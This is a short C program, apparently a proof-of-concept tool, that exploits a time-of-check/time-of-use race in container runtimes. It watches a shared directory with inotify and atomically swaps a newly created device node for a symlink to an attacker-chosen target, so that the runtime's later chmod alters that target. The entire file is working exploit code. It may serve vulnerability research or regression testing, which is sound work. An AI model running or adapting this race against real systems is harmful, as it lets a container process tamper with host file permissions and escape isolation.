/*
 * swap-race DIR NAME TARGET SECONDS: what a process sharing a volume with
 * a container can do while a runtime makes a device node in it. Watches
 * DIR (inotify(7)), and each time NAME appears there, puts in its place,
 * at once and atomically (rename(2)), a symlink to TARGET: a runtime that
 * then chmods NAME by its path chmods TARGET. Stops after SECONDS; prints
 * a line each time it swapped.
 */
#define _GNU_SOURCE
#include <err.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

int
main(int argc, char *argv[])
{
    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
    char tmp[PATH_MAX], path[PATH_MAX];
    const struct inotify_event *e;
    struct pollfd p = {.events = POLLIN};
    time_t end;
    long swaps = 0;
    ssize_t n;
    char *at;

    if (argc != 5)
        errx(2, "usage: swap-race DIR NAME TARGET SECONDS");
    end = time(NULL) + atoi(argv[4]);
    snprintf(tmp, sizeof(tmp), "%s/.swap", argv[1]);
    snprintf(path, sizeof(path), "%s/%s", argv[1], argv[2]);
    p.fd = inotify_init1(IN_CLOEXEC);
    if (p.fd == -1 || inotify_add_watch(p.fd, argv[1], IN_CREATE) == -1)
        err(2, "inotify %s", argv[1]);
    while (time(NULL) < end) {
        if (poll(&p, 1, 100) != 1)
            continue;
        n = read(p.fd, buf, sizeof(buf));
        for (at = buf; n > 0 && at < buf + n; at += sizeof(*e) + e->len) {
            e = (const struct inotify_event *)at;
            if (e->len == 0 || strcmp(e->name, argv[2]) != 0)
                continue;
            unlink(tmp);
            if (symlink(argv[3], tmp) == 0 && rename(tmp, path) == 0) {
                printf("swap %ld\n", ++swaps);
                fflush(stdout);
            }
        }
    }
    return 0;
}
